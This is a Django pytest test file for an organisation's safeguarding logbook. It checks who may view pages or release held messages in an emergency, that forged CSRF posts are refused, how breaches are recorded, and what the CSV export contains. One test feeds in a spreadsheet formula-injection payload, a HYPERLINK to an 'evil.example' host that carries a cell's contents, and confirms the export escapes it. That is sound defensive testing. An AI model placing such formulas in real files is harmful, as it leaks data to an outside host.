"""The logbook's pages and staff's emergency release through Django's test client: who may see
and do what, forged POSTs refused, and what each action leaves behind; the CSV export's
content, and its cells made safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Group, User
from django.contrib.messages import get_messages
from django.test import Client
from django.urls import reverse

from gateway.register.models import Subject
from gateway.relay.models import CopyKind, Delivery, Message, Outcome, ReviewState
from gateway.review import breaches, decisions
from gateway.review.models import AuditEntry, LawfulReason, LogbookEntry, ReviewOutcome
from gateway.review.roles import MANAGER
from tests.gateway.review.conftest import HELD_FOR, Users, filtered, held_outcome, signed_in

pytestmark = pytest.mark.django_db

ROLES = ("anonymous", "other_staff", "staff", "manager")


@pytest.fixture
def emergency(users: Users, held: Message) -> LogbookEntry:
    """An emergency release by the staff member, awaiting a manager's review."""
    entry, _ = breaches.emergency_release(
        held_outcome(held).id, user=users.staff, immediate_danger=True, note="danger to life"
    )
    return entry


EMERGENCY = {"immediate_danger": "on", "note": "He has a weapon and is at her door."}
REVIEW = {"finding": "justified", "subjects": "C-1001", "person_told": "on", "note": "right call"}
BREACH = {
    "happened_at": "2026-06-03T14:30",  # London time, BST
    "lawful_reason": "",
    "who_decided": "a volunteer",
    "subjects": "C-1001",
    "why_not_told": "she cannot be reached",
    "reference": "a phone call to the school",
    "note": "her address was given to the school",
}


def _pages(held: Message, entry: LogbookEntry) -> dict[str, str]:
    return {
        "logbook": reverse("review:logbook"),
        "entry": reverse("review:logbook_entry", args=[entry.id]),
        "csv": reverse("review:logbook_csv"),
        "breach": reverse("review:record_breach"),
    }


# (role, the manager's logbook pages, the emergency page of their own item's recipient)
PAGES = [
    ("anonymous", 302, 302),
    ("other_staff", 403, 404),
    ("staff", 403, 200),
    ("manager", 200, 403),
]


@pytest.mark.parametrize("expected", PAGES, ids=[row[0] for row in PAGES])
def test_pages_by_role(
    users: Users, held: Message, emergency: LogbookEntry, expected: tuple[str, int, int]
):
    """The logbook's pages are for managers; the emergency page is for the staff member who
    sent the item (another gets 404, a manager 403); anonymous users are sent to sign in."""
    role, logbook_status, emergency_status = expected
    client = signed_in(users, role)
    for name, url in _pages(held, emergency).items():
        assert client.get(url).status_code == logbook_status, name
    still_held = Outcome.objects.get(message=held, review_state=ReviewState.HELD)
    page = client.get(reverse("review:emergency", args=[still_held.id]))
    assert page.status_code == emergency_status
    if role == "anonymous":
        assert page["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("role", ["anonymous", "other_staff", "staff"])
def test_only_managers_review_and_record_breaches(
    users: Users, emergency: LogbookEntry, subject: Subject, role: str
):
    """No one but a manager can review an entry or record a breach: nothing changes."""
    client = signed_in(users, role)
    review = client.post(reverse("review:review_entry", args=[emergency.id]), REVIEW)
    breach = client.post(reverse("review:record_breach"), BREACH)
    assert {review.status_code, breach.status_code} == {302 if role == "anonymous" else 403}
    assert LogbookEntry.objects.get().flagged_for_review


@pytest.mark.parametrize("who", ["other_staff", "manager"])
def test_no_one_else_releases_a_staff_members_item_in_an_emergency(
    users: Users, held: Message, who: str
):
    """Another staff member gets 404 (the item is not theirs to know of); a manager gets 403;
    nothing is released and no one is told."""
    outcome = held_outcome(held)
    response = signed_in(users, who).post(reverse("review:emergency", args=[outcome.id]), EMERGENCY)
    assert response.status_code == (404 if who == "other_staff" else 403)
    assert Outcome.objects.get(id=outcome.id).review_state == ReviewState.HELD
    assert not Delivery.objects.exists()


def test_staff_cannot_release_another_senders_item(users: Users, held_from_another: Message):
    """A staff member posting to a recipient of someone else's message gets 404."""
    outcome = held_outcome(held_from_another)
    response = signed_in(users, "staff").post(
        reverse("review:emergency", args=[outcome.id]), EMERGENCY
    )
    assert response.status_code == 404
    assert Outcome.objects.get(id=outcome.id).review_state == ReviewState.HELD


def test_the_item_page_offers_staff_the_emergency_release_and_managers_their_actions(
    users: Users, held_unscanned: Message
):
    """The staff member's item page links to the emergency release for each held recipient;
    a manager's has the manager's actions and no such link."""
    url = reverse("review:item", args=[held_unscanned.id])
    staff_page = signed_in(users, "staff").get(url).content.decode()
    outcome = held_outcome(held_unscanned)
    assert reverse("review:emergency", args=[outcome.id]) in staff_page
    assert "<button" not in staff_page.split("</header>")[1]
    manager_page = signed_in(users, "manager").get(url).content.decode()
    assert "/emergency/" not in manager_page
    assert "Release with banner</button>" in manager_page


def test_a_staff_member_releases_their_own_item_in_an_emergency(
    users: Users, held: Message, sealer: object
):
    """With immediate danger stated and a note, the copy is queued bannered, one notice per
    manager, and the item's page says what happened."""
    second = User.objects.create_user("alex", email="alex.manager@riverside-carers.example.org")
    second.groups.add(Group.objects.get(name=MANAGER))
    outcome = held_outcome(held)
    client = signed_in(users, "staff", csrf=True)
    client.get(reverse("review:emergency", args=[outcome.id]))
    data = {**EMERGENCY, "csrfmiddlewaretoken": client.cookies["csrftoken"].value}
    response = client.post(reverse("review:emergency", args=[outcome.id]), data, follow=True)
    assert response.redirect_chain[-1][0] == reverse("review:item", args=[held.id])
    assert "The managers (2) are told at once" in response.content.decode()
    assert Outcome.objects.get(id=outcome.id).review_state == ReviewState.RELEASED
    assert Delivery.objects.get(copy__kind=CopyKind.BANNER).recipient == HELD_FOR
    notices = Delivery.objects.filter(copy__kind=CopyKind.NOTICE)
    assert sorted(d.recipient for d in notices) == sorted([users.manager.email, second.email])
    assert LogbookEntry.objects.get().flagged_for_review


def test_an_emergency_release_without_immediate_danger_is_refused(users: Users, held: Message):
    """The form without the box ticked is shown again (400) and nothing is released."""
    outcome = held_outcome(held)
    response = signed_in(users, "staff").post(
        reverse("review:emergency", args=[outcome.id]), {"note": EMERGENCY["note"]}
    )
    assert response.status_code == 400
    assert "an emergency release needs immediate danger" in response.content.decode()
    assert Outcome.objects.get(id=outcome.id).review_state == ReviewState.HELD
    assert not Delivery.objects.exists()


@pytest.mark.parametrize("token", [None, "forged-token-forged-token-forged-token-forged-toke"])
def test_forged_posts_are_refused(
    users: Users, held: Message, emergency: LogbookEntry, subject: Subject, token: str | None
):
    """An emergency release, a review or a breach POSTed without the page's CSRF token (or
    with a made-up one) is refused and changes nothing."""
    extra = {} if token is None else {"csrfmiddlewaretoken": token}
    still_held = Outcome.objects.get(message=held, review_state=ReviewState.HELD)
    staff = signed_in(users, "staff", csrf=True)
    manager = signed_in(users, "manager", csrf=True)
    posts = [
        staff.post(reverse("review:emergency", args=[still_held.id]), {**EMERGENCY, **extra}),
        manager.post(reverse("review:review_entry", args=[emergency.id]), {**REVIEW, **extra}),
        manager.post(reverse("review:record_breach"), {**BREACH, **extra}),
    ]
    assert [post.status_code for post in posts] == [403, 403, 403]
    assert Outcome.objects.get(id=still_held.id).review_state == ReviewState.HELD
    assert LogbookEntry.objects.get().flagged_for_review


@pytest.mark.parametrize("finding", ["justified", "breach"])
def test_a_manager_confirms_or_records_a_breach_on_the_entry_page(
    users: Users, emergency: LogbookEntry, subject: Subject, finding: str
):
    """The entry page offers the review while flagged; the POST records it, audited, and the
    page then shows the finding and no form."""
    client = signed_in(users, "manager")
    url = reverse("review:logbook_entry", args=[emergency.id])
    assert "Record the review</button>" in client.get(url).content.decode()
    response = client.post(
        reverse("review:review_entry", args=[emergency.id]), {**REVIEW, "finding": finding}
    )
    assert response.status_code == 302
    saved = LogbookEntry.objects.get(id=emergency.id)
    assert (saved.flagged_for_review, saved.review_outcome) == (False, finding)
    assert AuditEntry.objects.filter(kind="review_emergency_release").count() == 1
    page = client.get(url).content.decode()
    assert ReviewOutcome(finding).label in page
    assert "Record the review</button>" not in page


def test_a_review_missing_why_the_person_was_not_told_is_shown_again(
    users: Users, emergency: LogbookEntry, subject: Subject
):
    """Not told and no reason: the page comes back (400) with the problem, still flagged."""
    data = {key: value for key, value in REVIEW.items() if key != "person_told"}
    response = signed_in(users, "manager").post(
        reverse("review:review_entry", args=[emergency.id]), data
    )
    assert response.status_code == 400
    assert "say why the person was not told" in response.content.decode()
    assert LogbookEntry.objects.get().flagged_for_review


def test_a_manager_records_a_breach(users: Users, subject: Subject):
    """The breach form makes an entry with no lawful reason and no item, its time read as
    the organisation's (London) time, and shows it."""
    response = signed_in(users, "manager").post(
        reverse("review:record_breach"), BREACH, follow=True
    )
    entry = LogbookEntry.objects.get()
    assert response.redirect_chain[-1][0] == reverse("review:logbook_entry", args=[entry.id])
    assert (entry.kind, entry.lawful_reason, entry.person_told) == ("breach", "", False)
    assert entry.decided_at == datetime(2026, 6, 3, 13, 30, tzinfo=UTC)
    assert "a phone call to the school" in response.content.decode()
    assert AuditEntry.objects.get().kind == "record_breach"


def test_the_list_shows_entries_awaiting_review_first_and_filters(
    users: Users, emergency: LogbookEntry, subject: Subject
):
    """A later breach still comes after the emergency release waiting for review; the
    filters choose by kind and by awaiting review."""
    breach = breaches.record_breach(
        user=users.manager, happened_at=datetime.now(UTC), lawful_reason=LawfulReason.CRIME,
        who_decided="jo", note="told the police", subjects=[subject], person_told=True,
    )  # fmt: skip
    client = signed_in(users, "manager")
    page = client.get(reverse("review:logbook")).content.decode()
    assert "1 emergency release awaits a manager" in page
    first, second = (f'href="/logbook/{n}/"' for n in (emergency.id, breach.id))
    assert page.index(first) < page.index(second)
    only_breaches = filtered(client, "review:logbook", {"kind": "breach"}).content.decode()
    assert second in only_breaches
    assert first not in only_breaches
    awaiting = filtered(client, "review:logbook", {"awaiting_review": "on"}).content.decode()
    assert first in awaiting
    assert second not in awaiting
    cleared = client.post(reverse("review:logbook"), {"clear": ""})
    assert cleared["Location"] == reverse("review:logbook")
    everything = client.get(cleared["Location"]).content.decode()
    assert first in everything
    assert second in everything


def _csv(client: Client, **wanted: str) -> list[dict[str, str]]:
    """The CSV export of the entries the logbook's filter ``wanted`` (kept in the session)
    chooses."""
    if wanted:
        filtered(client, "review:logbook", wanted)
    response = client.get(reverse("review:logbook_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="confide-logbook-')
    assert "no-store" in response["Cache-Control"]
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_csv_export_holds_the_record_without_the_notes(
    users: Users, held: Message, emergency: LogbookEntry, subject: Subject
):
    """One row per entry: kind, date, lawful reason, who decided, whether told, subject
    refs, the item's reference and the review; the notes and why the person was not told,
    free text that may name people, stay on the pages."""
    breach = breaches.record_breach(
        user=users.manager, happened_at=datetime(2026, 3, 3, 9, 0, tzinfo=UTC),
        lawful_reason=None, who_decided="a volunteer", note="her diagnosis, to a neighbour",
        subjects=[subject], person_told=False, why_not_told="she has moved",
        reference="a conversation at the drop-in",
    )  # fmt: skip
    rows = _csv(signed_in(users, "manager"))
    assert [row["entry"] for row in rows] == [str(emergency.id), str(breach.id)]
    released, found_later = rows
    assert (released["kind"], released["lawful reason"], released["who decided"]) == (
        "emergency", "risk", "priya",
    )  # fmt: skip
    assert (released["person told"], released["flagged for review"]) == ("not recorded yet", "yes")
    assert (released["item reference"], released["recipient"]) == (str(held.id), HELD_FOR)
    assert found_later == {
        "entry": str(breach.id), "kind": "breach", "decided at": "2026-03-03T09:00:00+00:00",
        "lawful reason": "none", "who decided": "a volunteer", "recorded by": "jo",
        "person told": "no", "subject refs": "C-1001",
        "item reference": "a conversation at the drop-in", "recipient": "",
        "flagged for review": "no", "review outcome": "", "reviewed by": "", "reviewed at": "",
    }  # fmt: skip
    assert "danger to life" not in str(rows)
    assert "she has moved" not in str(rows)
    assert [row["entry"] for row in _csv(signed_in(users, "manager"), kind="breach")] == [
        str(breach.id)
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_cells_that_start_like_a_formula_are_written_as_text(
    users: Users, subject: Subject, start: str
):
    """A cell a spreadsheet would run as a formula gets a leading apostrophe."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    breaches.record_breach(
        user=users.manager, happened_at=datetime(2026, 3, 3, tzinfo=UTC), lawful_reason=None,
        who_decided=formula, note="n", subjects=[subject], person_told=False,
        why_not_told=formula, reference=formula,
    )  # fmt: skip
    (row,) = _csv(signed_in(users, "manager"))
    for column in ("who decided", "item reference"):
        assert row[column] == "'" + formula


@pytest.mark.parametrize("page", ["logbook", "entry", "breach"])
def test_logbook_pages_are_not_stored_and_never_framed(
    users: Users, held: Message, emergency: LogbookEntry, page: str
):
    """The logbook's pages are sent no-store, with a CSP that forbids script and framing."""
    response = signed_in(users, "manager").get(_pages(held, emergency)[page])
    assert "no-store" in response["Cache-Control"]
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
    assert "script-src" not in response["Content-Security-Policy"]


def test_an_emergency_release_after_a_managers_decision_says_it_was_decided(
    users: Users, held: Message
):
    """The staff member's emergency release, sent after a manager rejected the recipient
    (the race lost), is told the recipient was already decided rather than 404."""
    outcome = held_outcome(held)
    decisions.reject(outcome.id, user=users.manager, note="not needed")
    response = signed_in(users, "staff").post(
        reverse("review:emergency", args=[outcome.id]),
        {"immediate_danger": "on", "note": "she is in danger"},
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("review:item", args=[held.id])
    (message,) = get_messages(response.wsgi_request)
    assert "already decided" in str(message)
    assert not LogbookEntry.objects.exists()
    other = signed_in(users, "other_staff").post(reverse("review:emergency", args=[outcome.id]))
    assert other.status_code == 404
